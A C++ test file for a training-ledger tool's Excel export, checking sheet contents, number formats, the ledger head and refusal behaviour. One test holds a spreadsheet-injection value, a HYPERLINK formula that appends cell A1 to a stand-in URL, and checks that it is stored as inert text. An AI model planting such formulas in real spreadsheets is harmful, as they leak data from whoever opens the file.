// --format xlsx -o FILE end to end: each workbook is read back by openpyxl
// (tests/scripts/xlsx_dump.py, an independent reader) and checked to the
// cell: sheet names, headers, every figure against the same command's JSON,
// number formats, frozen header rows, and the "Căn cứ" sheet's head SEQ:HASH
// against `checkpoint` (the head as known at a past instant too). Then the
// refusals, and that a failed command leaves -o's file as it was.
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <map>
#include <set>
#include <thread>

#include "core/date.h"
#include "tests/report_test_util.h"
#include "tools/cli/render_xlsx.h"

namespace tledger::report_testing {
namespace {

using Json = nlohmann::json;

constexpr char kCount[] = "#,##0";
constexpr char kMoneyVi[] = "#,##0\" đ\"";
constexpr char kPercent[] = "0\"%\"";

// The workbook at `file` as openpyxl reads it.
Json Dump(const std::string& file) {
  CliRun r = testing::RunProgram({"/usr/bin/python3", testing::SourceDir() + "/tests/scripts/xlsx_dump.py", file});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  return Json::parse(r.out);
}

std::vector<std::string> SheetNames(const Json& book) {
  std::vector<std::string> out;
  for (const Json& s : book["sheets"]) out.push_back(s["name"]);
  return out;
}

const Json& SheetNamed(const Json& book, const std::string& name) {
  for (const Json& s : book["sheets"]) {
    if (s["name"] == name) return s;
  }
  ADD_FAILURE() << "no sheet " << name;
  static const Json kEmpty = Json::object();
  return kEmpty;
}

// A sheet's row `r` (0: the header) as its values.
std::vector<Json> Values(const Json& sheet, size_t r) {
  std::vector<Json> out;
  for (const Json& c : sheet["rows"][r]) out.push_back(c[0]);
  return out;
}

// The "Căn cứ" sheet as item -> value.
std::map<std::string, Json> Basis(const Json& book) {
  std::map<std::string, Json> out;
  const Json& s = SheetNamed(book, "Căn cứ");
  for (size_t r = 1; r < s["rows"].size(); ++r) out[s["rows"][r][0][0]] = s["rows"][r][1][0];
  return out;
}

class XlsxCli : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new ReportTestDir();
    ImportInto(Db(), {DataFile("report_two_plans.jsonl")});
    *first_head_ = testing::Checkpoint(Db());
    // An instant after the first import and before the second.
    *between_ = FormatInstant(Now());
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
    ImportInto(Db(), {DataFile("report_two_plans_more.jsonl")});
    *head_ = testing::Checkpoint(Db());
    ImportInto(SampleDb(), {DataFile("sample.jsonl")});
    ImportInto(TargetsDb(), {DataFile("report_targets.jsonl")});
  }
  static void TearDownTestSuite() { delete dir_; }
  static std::string Db() { return dir_->path() + "/plans"; }
  static std::string SampleDb() { return dir_->path() + "/sample"; }
  static std::string TargetsDb() { return dir_->path() + "/targets"; }
  static std::string File(const std::string& name) { return dir_->path() + "/" + name; }
  static ReportTestDir* dir_;
  static std::string* first_head_;
  static std::string* head_;
  static std::string* between_;
};
ReportTestDir* XlsxCli::dir_ = nullptr;
std::string* XlsxCli::first_head_ = new std::string;
std::string* XlsxCli::head_ = new std::string;
std::string* XlsxCli::between_ = new std::string;

TEST_F(XlsxCli, ReportWorkbookHoldsEveryFigureOfTheJsonReport) {
  const std::string file = File("report.xlsx");
  std::vector<std::string> args = {"--db", Db(), "report", "--as-of", "31/12/2025", "--format", "xlsx", "-o", file};
  EXPECT_EQ(RunOk(args), "");
  Json book = Dump(file);
  Json report = Json::parse(RunOk({"--db", Db(), "report", "--as-of", "2025-12-31", "--format", "json"}));
  EXPECT_EQ(SheetNames(book), (std::vector<std::string>{"Tổng hợp", "Theo trình độ", "Theo cấp", "Theo lĩnh vực",
                                                         "Theo hình thức", "Căn cứ"}));
  for (const Json& s : book["sheets"]) EXPECT_EQ(s["freeze"], "A2") << s["name"];

  const Json& summary = SheetNamed(book, "Tổng hợp");
  EXPECT_EQ(Values(summary, 0),
            (std::vector<Json>{"Kế hoạch", "Tên kế hoạch", "Văn bản", "Cơ quan ban hành", "Chỉ tiêu", "Đã cử đi học",
                               "% đạt kế hoạch", "Hoàn thành", "Không hoàn thành, không được cấp văn bằng", "Đang học",
                               "Thôi học", "Dự toán kinh phí", "Kinh phí đã quyết định", "Còn lại"}));
  ASSERT_EQ(report["plans"].size(), 2u);
  ASSERT_EQ(summary["rows"].size(), 4u);  // the header, two plans, "Cộng"
  int64_t quota = 0, enrolled = 0, budget = 0;
  for (size_t i = 0; i < 2; ++i) {
    const Json& plan = report["plans"][i];
    std::vector<Json> row = Values(summary, i + 1);
    EXPECT_EQ(row[0], plan["plan"]);
    // The quota: the sum of the cells' quotas, none when no cell has one.
    Json plan_quota;
    int64_t plan_enrolled = 0;
    for (const Json& c : plan["cells"]) {
      if (!c["quota"].is_null()) plan_quota = plan_quota.is_null() ? c["quota"] : Json(plan_quota.get<int64_t>() + c["quota"].get<int64_t>());
      plan_enrolled += c["enrolled"].get<int64_t>();
    }
    EXPECT_EQ(row[4], plan_quota);
    EXPECT_EQ(row[5], plan_enrolled);
    EXPECT_EQ(row[11], plan["budget_vnd"]);
    EXPECT_EQ(row[12], plan["public_funding_vnd"]);
    EXPECT_EQ(row[13], plan["remaining_vnd"]);
    EXPECT_EQ(summary["rows"][i + 1][5][1], kCount);
    EXPECT_EQ(summary["rows"][i + 1][11][1], kMoneyVi);
    if (!plan_quota.is_null()) {
      EXPECT_EQ(summary["rows"][i + 1][4][1], kCount);
      EXPECT_EQ(summary["rows"][i + 1][6][1], kPercent);
      quota += plan_quota.get<int64_t>();
    }
    enrolled += plan_enrolled;
    budget += plan["budget_vnd"].get<int64_t>();
  }
  std::vector<Json> total = Values(summary, 3);
  EXPECT_EQ(total[0], "Cộng");
  EXPECT_EQ(total[4], quota);
  EXPECT_EQ(total[5], enrolled);
  EXPECT_EQ(total[11], budget);
  EXPECT_TRUE(summary["rows"][3][0][2].get<bool>());  // bold

  // Theo trình độ: a line per cell of each plan, in the JSON's order, then
  // the plan's "Cộng" when it has more than one cell.
  const Json& cells = SheetNamed(book, "Theo trình độ");
  size_t r = 1;
  for (const Json& plan : report["plans"]) {
    for (const Json& c : plan["cells"]) {
      std::vector<Json> row = Values(cells, r++);
      EXPECT_EQ(row[0], plan["plan"]);
      EXPECT_EQ(row[4], c["quota"]);
      EXPECT_EQ(row[5], c["enrolled"]);
      EXPECT_EQ(row[6], c["percent_of_quota"]);
      EXPECT_EQ(row[7], c["completed"]);
      EXPECT_EQ(row[8], c["failed"]);
      EXPECT_EQ(row[9], c["in_progress"]);
      EXPECT_EQ(row[10], c["withdrawn"]);
    }
    if (plan["cells"].size() > 1) {
      EXPECT_EQ(Values(cells, r++)[1], "Cộng");
    }
  }
  EXPECT_EQ(r, cells["rows"].size());

  // By level, field and form: the JSON's figures, then "Cộng".
  const Json& levels = SheetNamed(book, "Theo cấp");
  ASSERT_EQ(levels["rows"].size(), report["by_level"].size() + 2);
  for (size_t i = 0; i < report["by_level"].size(); ++i) {
    EXPECT_EQ(Values(levels, i + 1)[1], report["by_level"][i]["trainee_turns"]);
    EXPECT_EQ(Values(levels, i + 1)[2], report["by_level"][i]["persons"]);
  }
  const Json& forms = SheetNamed(book, "Theo hình thức");
  for (size_t i = 0; i < report["by_form"].size(); ++i) {
    EXPECT_EQ(Values(forms, i + 1)[1], report["by_form"][i]["trainee_turns"]);
    EXPECT_EQ(Values(forms, i + 1)[2], report["by_form"][i]["classes"]);
  }

  std::map<std::string, Json> basis = Basis(book);
  EXPECT_EQ(basis["Tính đến hết ngày"], "31/12/2025");
  EXPECT_EQ(basis["Sổ cái (số bản ghi cuối:mã băm SHA-256 của chuỗi)"], *head_);
  EXPECT_EQ(basis["Kiểm tra sổ cái"], "tledger verify --expect-head " + *head_);
  EXPECT_EQ(basis["Lệnh tạo tài liệu"], "tledger --db " + Db() + " report --as-of 31/12/2025 --format xlsx -o " + file);
  EXPECT_EQ(basis["Số bản ghi được tính"], report["events_counted"]);
  EXPECT_EQ(basis["Chi phí đền bù còn phải nộp"], report["reimbursement_due_vnd"]);
}

// Chỉ tiêu, after Theo trình độ, only when a plan sets targets: a line per
// target (tests/data/report_targets.jsonl), each figure the JSON's, "-"
// left empty.
TEST_F(XlsxCli, ReportWorkbookHasATargetsSheetWhereAPlanSetsTargets) {
  const std::string file = File("targets.xlsx");
  EXPECT_EQ(RunOk({"--db", TargetsDb(), "report", "--as-of", "31/12/2024", "--format", "xlsx", "-o", file}), "");
  Json book = Dump(file);
  EXPECT_EQ(SheetNames(book), (std::vector<std::string>{"Tổng hợp", "Theo trình độ", "Chỉ tiêu", "Theo cấp",
                                                         "Theo lĩnh vực", "Theo hình thức", "Căn cứ"}));
  const Json& sheet = SheetNamed(book, "Chỉ tiêu");
  EXPECT_EQ(sheet["freeze"], "A2");
  EXPECT_EQ(Values(sheet, 0), (std::vector<Json>{"Kế hoạch", "Trình độ, chương trình", "Kế hoạch (lượt học viên)",
                                                 "Lượt học viên", "% đạt kế hoạch", "Kế hoạch (số lớp)", "Số lớp"}));
  Json report = Json::parse(RunOk({"--db", TargetsDb(), "report", "--as-of", "2024-12-31", "--format", "json"}));
  const Json& targets = report["plans"][0]["targets"];
  ASSERT_EQ(targets.size(), 3u);
  ASSERT_EQ(sheet["rows"].size(), 4u);
  for (size_t i = 0; i < targets.size(); ++i) {
    std::vector<Json> row = Values(sheet, i + 1);
    EXPECT_EQ(row[0], "QN-2024");
    EXPECT_EQ(row[2], targets[i]["target_trainee_turns"]);
    EXPECT_EQ(row[3], targets[i]["trainee_turns"]);
    EXPECT_EQ(row[4], targets[i]["percent_of_target"]);
    EXPECT_EQ(row[5], targets[i]["target_classes"]);
    EXPECT_EQ(row[6], targets[i]["classes"]);
  }
  EXPECT_EQ(Values(sheet, 2), (std::vector<Json>{"QN-2024", "Bồi dưỡng theo vị trí việc làm", 200, 1, 1, nullptr, 1}));
  EXPECT_EQ(sheet["rows"][2][2][1], kCount);
  EXPECT_EQ(sheet["rows"][2][4][1], kPercent);
  // In English, and none where no plan sets targets (the other workbooks above).
  const std::string en = File("targets-en.xlsx");
  EXPECT_EQ(RunOk({"--db", TargetsDb(), "report", "--as-of", "31/12/2024", "--format", "xlsx", "-o", en, "--lang", "en"}), "");
  Json english = Dump(en);
  EXPECT_EQ(SheetNames(english)[2], "Targets");
  EXPECT_EQ(Values(SheetNamed(english, "Targets"), 0),
            (std::vector<Json>{"Plan", "Program", "Target trainee-turns", "Trainee-turns", "% of target", "Target classes",
                               "Classes"}));
}

TEST_F(XlsxCli, TheHeadIsTheLedgerAsKnownAtThePastInstant) {
  const std::string file = File("report-before.xlsx");
  EXPECT_EQ(RunOk({"--db", Db(), "report", "--as-of", "2025-12-31", "--known-at", *between_, "--format", "xlsx", "-o", file}),
            "");
  std::map<std::string, Json> basis = Basis(Dump(file));
  EXPECT_NE(*first_head_, *head_);
  EXPECT_EQ(basis["Sổ cái (số bản ghi cuối:mã băm SHA-256 của chuỗi)"], *first_head_);
  // The head a document names is one `verify --expect-head` accepts.
  CliRun v = RunTledger({"--db", Db(), "verify", "--expect-head", *first_head_});
  EXPECT_EQ(v.exit_code, 0) << v.out << v.err;
}

TEST_F(XlsxCli, ViolationsWorkbookListsEveryFindingOfTheJson) {
  const std::string file = File("violations.xlsx");
  EXPECT_EQ(RunOk({"--db", Db(), "violations", "--as-of", "31/12/2025", "--format", "xlsx", "-o", file}), "");
  Json book = Dump(file);
  Json json = Json::parse(RunOk({"--db", Db(), "violations", "--as-of", "2025-12-31", "--format", "json"}));
  EXPECT_EQ(SheetNames(book), (std::vector<std::string>{"Vi phạm", "Căn cứ"}));
  const Json& sheet = SheetNamed(book, "Vi phạm");
  EXPECT_EQ(Values(sheet, 0),
            (std::vector<Json>{"STT", "Loại", "Nội dung kiểm tra", "Bản ghi căn cứ", "Đối tượng", "Nội dung",
                               "Văn bản áp dụng", "Căn cứ pháp lý", "Học viên", "Chi phí đền bù", "Đã nộp",
                               "Còn phải nộp", "Số thứ tự bản ghi"}));
  const Json& found = json["violations"];
  ASSERT_GT(found.size(), 0u);
  ASSERT_EQ(sheet["rows"].size(), found.size() + 1);
  // Grouped by kind as the table is, each finding once: its record and seq.
  std::multiset<std::pair<std::string, int64_t>> in_json, in_book;
  for (const Json& v : found) in_json.insert({v["event"].get<std::string>(), v["seq"].get<int64_t>()});
  const std::vector<std::string> kinds = {"vi phạm", "cảnh báo", "sai sót dữ liệu"};
  size_t last_kind = 0;
  for (size_t r = 1; r < sheet["rows"].size(); ++r) {
    std::vector<Json> row = Values(sheet, r);
    EXPECT_EQ(row[0], static_cast<int64_t>(r));
    in_book.insert({row[3].get<std::string>(), row[12].get<int64_t>()});
    size_t kind = std::find(kinds.begin(), kinds.end(), row[1].get<std::string>()) - kinds.begin();
    ASSERT_LT(kind, kinds.size()) << row[1];
    EXPECT_GE(kind, last_kind);
    last_kind = kind;
  }
  EXPECT_EQ(in_book, in_json);
}

TEST_F(XlsxCli, CompensationWorkbookShowsTheAmountsAndTheirTotal) {
  const std::string file = File("den-bu.xlsx");
  EXPECT_EQ(RunOk({"--db", SampleDb(), "--read-only", "compensation", "--as-of", "31/12/2028", "--known-at", "9999-12-31",
                   "--format", "xlsx", "-o", file}),
            "");
  Json book = Dump(file);
  EXPECT_EQ(SheetNames(book), (std::vector<std::string>{"Đền bù", "Căn cứ"}));
  const Json& sheet = SheetNamed(book, "Đền bù");
  ASSERT_EQ(sheet["rows"].size(), 3u);  // the header, HG-000123, "Cộng"
  std::vector<Json> header = Values(sheet, 0), row = Values(sheet, 1), total = Values(sheet, 2);
  EXPECT_EQ(header[1], "Họ và tên");
  EXPECT_EQ(header[16], "Phải đền bù");
  EXPECT_EQ(header[17], "Đã nộp");
  EXPECT_EQ(header[19], "Còn phải nộp");
  EXPECT_EQ(row[0], 1);
  EXPECT_EQ(row[1], "Trần Thị Ngọc Hân");
  EXPECT_EQ(row[2], "HG-000123");
  EXPECT_EQ(row[15], "S = F x (T1 - T2) / T1 = 95.000.000 đ x (48 - 9) / 48 = 77.187.500 đ (T1, T2 tính bằng tháng; "
                     "làm tròn xuống đến đồng; chưa tính giảm trừ, nếu có)");
  EXPECT_EQ(row[16], 77187500);
  EXPECT_EQ(row[17], 30000000);
  EXPECT_EQ(row[19], 47187500);
  EXPECT_EQ(sheet["rows"][1][16][1], kMoneyVi);
  EXPECT_EQ(total[1], "Cộng");
  EXPECT_EQ(total[16], 77187500);
  EXPECT_EQ(total[19], 47187500);
  std::map<std::string, Json> basis = Basis(book);
  EXPECT_EQ(basis["Còn phải nộp"], 47187500);
  EXPECT_EQ(basis["Sổ cái (số bản ghi cuối:mã băm SHA-256 của chuỗi)"], testing::Checkpoint(SampleDb()));
}

TEST_F(XlsxCli, EnglishWorkbook) {
  const std::string file = File("compensation-en.xlsx");
  EXPECT_EQ(RunOk({"--db", SampleDb(), "compensation", "--as-of", "2028-12-31", "--known-at", "9999-12-31", "--lang", "en",
                   "--format", "xlsx", "-o", file}),
            "");
  Json book = Dump(file);
  EXPECT_EQ(SheetNames(book), (std::vector<std::string>{"Compensation", "Basis"}));
  EXPECT_EQ(book["sheets"][0]["rows"][1][16][1], "#,##0\" VND\"");
  EXPECT_EQ(book["sheets"][1]["rows"][2][1][0], "2028-12-31");
}

TEST_F(XlsxCli, OutputToAFileIsWhatTheCommandPrints) {
  const std::string file = File("report.csv");
  std::vector<std::string> args = {"--db", Db(), "report", "--as-of", "2025-12-31", "--format", "csv"};
  std::string printed = RunOk(args);
  args.insert(args.end(), {"-o", file});
  EXPECT_EQ(RunOk(args), "");
  EXPECT_EQ(testing::ReadFile(file), printed);
}

TEST_F(XlsxCli, RefusalsSayWhatIsExpectedAndLeaveTheFileAsItWas) {
  CliRun no_file = RunTledger({"--db", Db(), "report", "--as-of", "2025-12-31", "--format", "xlsx"});
  EXPECT_EQ(no_file.exit_code, 1);
  EXPECT_NE(no_file.err.find("--format xlsx: a workbook is written to a file: add -o FILE"), std::string::npos) << no_file.err;
  CliRun diff = RunTledger({"--db", Db(), "diff", "--from", "2025-06-30", "--to", "2025-12-31", "--format", "xlsx", "-o",
                            File("diff.xlsx")});
  EXPECT_EQ(diff.exit_code, 1);
  EXPECT_NE(diff.err.find("--format: \"xlsx\" is for report, violations and compensation (expected table, json or csv)"),
            std::string::npos)
      << diff.err;
  // A file already at -o is left as it was when the command fails.
  const std::string kept = File("kept.xlsx");
  testing::WriteFile(kept, "the inspector's earlier workbook");
  CliRun bad_plan =
      RunTledger({"--db", Db(), "report", "--as-of", "2025-12-31", "--plan", "NO-SUCH", "--format", "xlsx", "-o", kept});
  EXPECT_EQ(bad_plan.exit_code, 1) << bad_plan.err;
  EXPECT_EQ(testing::ReadFile(kept), "the inspector's earlier workbook");
  CliRun no_dir =
      RunTledger({"--db", Db(), "report", "--as-of", "2025-12-31", "--format", "xlsx", "-o", File("no/such/dir/r.xlsx")});
  EXPECT_NE(no_dir.exit_code, 0);
  EXPECT_NE(no_dir.err.find("no/such/dir"), std::string::npos) << no_dir.err;
}

// Beyond 2^53 a spreadsheet's number is rounded: such a figure is written as
// its exact digits, grouped, in a text cell.
TEST(XlsxCells, AFigureASpreadsheetCannotHoldExactlyIsWrittenAsText) {
  testing::TempDir tmp;
  const std::string file = tmp / "big.xlsx";
  Sheet s{.name = "Số lớn", .header = {"Số tiền", "Số lượt"}};
  s.rows.push_back({Cell::Money((int64_t{1} << 53) + 1), Cell::Count(int64_t{1} << 53)});
  ASSERT_TRUE(WriteWorkbook(file, {s}, Lang::kVi).ok());
  Json book = Dump(file);
  EXPECT_EQ(book["sheets"][0]["rows"][1][0][0], "9.007.199.254.740.993 đ");
  EXPECT_EQ(book["sheets"][0]["rows"][1][1][0], int64_t{1} << 53);
  EXPECT_EQ(book["sheets"][0]["rows"][1][1][1], kCount);
}

// A name that is a formula stays a string: the spreadsheet shows it and
// never runs it (SECURITY.md, "Documents").
TEST(XlsxCells, TextThatLooksLikeAFormulaIsAString) {
  testing::TempDir tmp;
  const std::string file = tmp / "formula.xlsx";
  const std::string formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Nguyễn Văn A\")";
  Sheet s{.name = "Học viên", .header = {"Họ và tên"}};
  s.rows.push_back({Cell::Text(formula)});
  ASSERT_TRUE(WriteWorkbook(file, {s}, Lang::kVi).ok());
  Json book = Dump(file);
  EXPECT_EQ(book["sheets"][0]["rows"][1][0][0], formula);
  EXPECT_EQ(book["sheets"][0]["rows"][1][0][3], "s");
}

TEST(XlsxCells, ASheetNameExcelRefusesIsRefusedAndNoFileIsWritten) {
  testing::TempDir tmp;
  const std::string file = tmp / "bad.xlsx";
  Sheet s{.name = "a/b", .header = {"x"}};
  Status st = WriteWorkbook(file, {s}, Lang::kVi);
  EXPECT_EQ(st.code(), Status::Code::kInvalidInput);
  EXPECT_FALSE(std::filesystem::exists(file));
}

}  // namespace
}  // namespace tledger::report_testing
